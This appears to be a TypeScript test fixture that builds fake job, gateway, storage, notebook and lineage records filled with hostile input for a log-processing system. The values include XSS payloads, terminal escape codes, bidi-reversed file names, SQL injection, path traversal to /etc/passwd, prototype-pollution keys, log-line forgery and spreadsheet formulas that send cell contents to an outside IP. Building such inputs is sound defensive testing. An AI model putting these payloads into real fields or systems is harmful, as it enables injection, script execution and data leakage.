/** Text by an attacker in whatever field a caller may choose: escapes, bidi overrides, formulas, prototype keys, paths. */
import { CALLERS } from './callers.ts';
import { CLUSTERS, PROJECTS } from './company.ts';
import { auditEvent } from './databricks/record.ts';
import { objectAccess } from './data/storage.ts';
import { submitJob } from './dataproc/jobs.ts';
import type { Draft, RecordDraft, Told } from './entry.ts';
import { pyspark } from './jobs/plan.ts';
import { SERVICES } from './kong/entities.ts';
import { gatewayRecord } from './kong/record.ts';
import { callOf, clock, endingOf, sceneOf } from './scene.ts';
import type { Scene } from './scene.ts';

function job(scene: Scene): readonly Draft[] {
  const at = clock('20:44:44');
  const call = callOf(scene, at, 'ivo', 'dev');
  return submitJob(
    { ...call, caller: { ...call.caller, userAgent: '\u001b[2J\u001b[31mgcloud <script>alert(1)</script>' } },
    {
      id: 'ivo-report-2',
      uuid: scene.random.uuid(),
      cluster: CLUSTERS.dev,
      work: pyspark('tmp/report.py', [
        '--title==HYPERLINK("http://203.0.113.66/?"&A1,"totals")',
        '--input=gs://acme-curated/../customers/\u202egpj.teuqrap',
        `--note=${"'; DROP TABLE Events; --".repeat(8)}`,
        '--password=correct-horse-battery',
      ]),
      labels: Object.fromEntries([
        ['__proto__', 'polluted'],
        ['constructor', 'polluted'],
        ['team', 'severity=DEBUG\nseverity: INFO'],
      ]),
    },
    endingOf(scene, at, 1300),
  );
}

function request(scene: Scene): Draft {
  const at = clock('20:45:10');
  return gatewayRecord({
    at,
    startedAt: scene.midnight + at,
    method: 'GET',
    service: SERVICES.lineage,
    uri: `/v1/jobs?q=${encodeURIComponent('"><img src=x onerror=alert(1)>')}&next=//203.0.113.66`,
    status: 401,
    refused: true,
    clientIp: '203.0.113.90',
    userAgent: '\u001b]0;owned\u0007curl/8.10.1\r\nseverity: INFO',
    requestId: scene.random.hex(32),
    latencyMs: 0,
    headers: Object.fromEntries([
      ['__proto__', 'polluted'],
      ['x-userinfo', Buffer.from('{"sub":"ana@example.com"}').toString('base64')],
      ['cookie', 'session=correct-horse-battery'],
    ]),
  });
}

/** An object whose name is a line of a log, and one that pretends to belong to somebody else's job. */
function objects(scene: Scene): readonly Draft[] {
  const by = { project: PROJECTS.dev, caller: CALLERS.ivo };
  return [
    'report\n{"severity":"INFO","message":"all is well"}',
    'google-cloud-dataproc-metainfo/7f1c2c5e-0b9e-4c53-9a0e-3d1b6f2a8c11/jobs/../../\u202etxt.daolyap/driveroutput',
  ].map((object, i) =>
    objectAccess(scene, by, {
      at: clock('20:46:00') + i * 1000,
      verb: 'create',
      bucket: `${PROJECTS.dev.id}-scratch`,
      object,
    }),
  );
}

function notebook(scene: Scene): RecordDraft {
  return auditEvent(scene, {
    at: '20:47:33',
    workspace: 'staging',
    by: {
      email: 'ivo@example.com',
      ip: '203.0.113.90',
      userAgent: '=HYPERLINK("http://203.0.113.66","x")',
    },
    method: 'jobs.submitRun',
    params: {
      run_name: '<script>alert(1)</script>\u001b[2J',
      tasks:
        '[{"task_key":"a","spark_python_task":{"parameters":["--password=correct-horse-battery"]}}... truncated',
      idempotency_token: '../../etc/passwd',
    },
    result: { run_id: 9_007_199_254_740 },
  });
}

/** Anybody may send lineage: a run that claims to be another's job, with names no data set has. */
function lineage(scene: Scene): RecordDraft {
  const at = clock('20:48:12');
  return {
    at,
    to: 'openlineage',
    text: JSON.stringify({
      eventTime: new Date(scene.midnight + at).toISOString(),
      producer: 'javascript:alert(1)',
      schemaURL: 'https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/RunEvent',
      eventType: 'COMPLETE',
      run: {
        runId: 'not-a-uuid',
        facets: { gcp_dataproc: { jobId: '../../orders-curate', projectId: 'a'.repeat(300) } },
      },
      job: { namespace: '__proto__', name: 'constructor\u0000' },
      inputs: [{ namespace: 'gs://acme-curated', name: '../customers/\u202egpj.teuqrap' }],
      outputs: [{ namespace: 'file', name: '/etc/passwd' }],
    }),
  };
}

export function hostileEntries(scene: Scene): readonly Told[] {
  return [
    ...job(sceneOf(scene, 'hostile')),
    request(sceneOf(scene, 'hostile-request')),
    ...objects(sceneOf(scene, 'hostile-objects')),
    notebook(sceneOf(scene, 'hostile-run')),
    lineage(sceneOf(scene, 'hostile-lineage')),
  ];
}
